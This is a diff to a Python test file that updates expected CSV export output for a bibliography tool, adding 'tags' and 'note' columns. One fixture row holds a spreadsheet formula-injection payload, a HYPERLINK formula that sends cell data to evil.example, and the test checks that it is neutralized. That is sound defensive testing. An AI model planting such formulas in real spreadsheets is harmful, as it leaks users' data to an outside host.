@@ -535,11 +535,11 @@ def test_markdown_reader_detect_and_errors():
 def test_csv_header_and_neutralized_cells():
     text = (GOLDEN / "papers.csv").read_bytes().decode("utf-8")
     assert text.startswith(
-        "citekey,title,authors,year,venue,venue_type,doi,arxiv,url,code,datasets,categories,domain,sources\r\n"
+        "citekey,title,authors,year,venue,venue_type,doi,arxiv,url,code,datasets,categories,domain,sources,tags,note\r\n"
     )
     assert text.endswith(
         'hooft2023hyperlink,"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")",\'\'t Hooft,2023,,,,,'
-        "https://evil.example/?q=1,,'-Negative Set,,general,'=evil.csv:2\r\n"
+        "https://evil.example/?q=1,,'-Negative Set,,general,'=evil.csv:2,,\r\n"
     )
     assert csv_export.row(BY_KEY["cai2025medianomaly"]) == [
         "cai2025medianomaly",
@@ -557,7 +557,10 @@ def test_csv_header_and_neutralized_cells():
         "medical",
         "data/seed/lgc-industrial-medical-ad_2025-12.md:400; data/seed/diaoquesang-medical-ad_2025-06.md:427;"
         " data/seed/diaoquesang-medical-ad_2025-03.md:30",
+        "",  # tags
+        "",  # note
     ]
+    assert csv_export.row(BY_KEY["ruff2020deep"])[-2:] == ["baseline; to-read", "Compare with DevNet on MVTec AD."]
 
 
 @pytest.mark.parametrize(
@@ -586,7 +589,7 @@ def test_csv_reads_back_with_csv_module_and_pandas():
     with path.open(newline="", encoding="utf-8") as f:
         rows = list(csv.reader(f))
     frame = pandas.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8")
-    assert list(frame.columns) == rows[0] == list(adbib_csv.HEADER)
+    assert list(frame.columns) == rows[0] == list(adbib_csv.HEADER + adbib_csv.CURATION)
     assert frame.values.tolist() == rows[1:]
     assert rows[1:] == [[csv_export.neutralize(c) for c in csv_export.row(p)] for p in PAPERS]
 
